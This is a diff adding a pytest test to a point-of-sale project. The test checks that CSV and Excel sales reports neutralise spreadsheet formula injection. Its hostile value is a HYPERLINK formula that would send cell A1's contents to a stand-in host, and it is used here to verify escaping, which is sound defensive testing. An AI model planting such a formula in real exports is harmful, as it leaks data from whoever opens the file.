@@ -151,3 +151,38 @@ def test_refusals(showroom: Showroom) -> None:
     with pytest.raises(ValidationError):
         reports.sales_report(showroom.ledger, actor=showroom.supervisor,
                              first_day=date(2026, 10, 1), last_day=date(2026, 10, 2), by="colour")
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel(
+        sqlite_showroom: Showroom, tmp_path: Path) -> None:
+    import zipfile
+
+    from showroom_pos.services import makers, sales, stock
+
+    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
+    makers.add_maker(sqlite_showroom.ledger, actor=sqlite_showroom.staff,
+                     data=makers.MakerInput(code="PKL066", name=hostile))
+    slip = stock.receive_consignment(
+        sqlite_showroom.ledger, actor=sqlite_showroom.staff, maker_code="PKL066",
+        lines=[stock.IntakeLineInput(1, stock.ItemFields("Taplak cap", "taplak", "cap",
+                                                         150_000, motif=hostile))])
+    sales.complete_sale(sqlite_showroom.ledger, actor=sqlite_showroom.cashier,
+                        terminal_code="K1", lines=[sales.CartLine(slip.lines[0].item_code)],
+                        payments=[sales.PaymentInput("cash", 150_000)])
+    report = reports.sales_report(sqlite_showroom.ledger, actor=sqlite_showroom.supervisor,
+                                  first_day=date(2026, 10, 1), last_day=date(2026, 10, 31),
+                                  by="motif")
+    table = tables.sales_table(report)
+    tables.write_table(table, tmp_path / "r.csv")
+    tables.write_table(table, tmp_path / "r.xlsx")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    assert "'" + hostile in cells
+    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
+        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula at all
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    assert sheet is not None
+    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert hostile in texts  # shown as written, as text
